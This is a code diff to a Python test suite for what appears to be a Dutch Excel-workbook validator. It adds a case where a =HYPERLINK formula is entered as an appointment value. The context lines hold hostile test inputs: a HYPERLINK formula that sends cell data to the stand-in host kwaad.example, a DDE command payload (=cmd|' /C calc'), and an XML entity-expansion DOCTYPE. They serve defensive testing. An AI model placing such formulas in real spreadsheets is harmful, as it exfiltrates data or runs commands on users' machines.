@@ -23,6 +23,7 @@ NOT_XLSX = "dit is geen Excel-werkmap (.xlsx); misschien een ander bestand met e
 PDF = "dit is een PDF-bestand, geen werkboek. Sla het op als Excel-werkmap (.xlsx)"
 OLD_OR_LOCKED = "dit is een oud Excel-bestand (.xls) of een werkboek met een wachtwoord."
 DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+FORMULA_AFSPRAAK = '=HYPERLINK("http://kwaad.example/","klik")'
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://kwaad.example/?"&A1,"Klik hier")',
     "=cmd|' /C calc'!A0",
@@ -280,6 +281,12 @@ def doctype_after(part: str, offset: int) -> Callable[[Path, Path], None]:
     return make
 
 
+def _formula_in_afspraak(book: Book) -> None:
+    """A live formula typed as the afspraak of a new row: reported, and kept in the overview."""
+    book.new_row("BS Linde", afspraak="x")
+    book.put("BS Linde", "nieuw", "afspraak", FORMULA_AFSPRAAK, FAULT_ROW)
+
+
 # -- tampered templates ----------------------------------------------------------------------
 
 
@@ -453,6 +460,13 @@ CASES = [
     Case("tekst-van-1-mb.xlsx", "een afspraak van 1 MB", edited(_megabyte_text), 1, ("V005",)),
     Case(
         "formule-injectie.xlsx", "=cmd|, +, -, @ en DDE", edited(_formula_injection), 1, ("V010",)
+    ),
+    Case(
+        "formule-als-afspraak.xlsx",
+        "=HYPERLINK(...) als afspraak",
+        edited(_formula_in_afspraak),
+        1,
+        ("V001", "V010"),
     ),
     Case(
         "bladen-verwisseld.xlsx", "tabbladen in andere volgorde", edited(_sheets_reordered), 0, ()
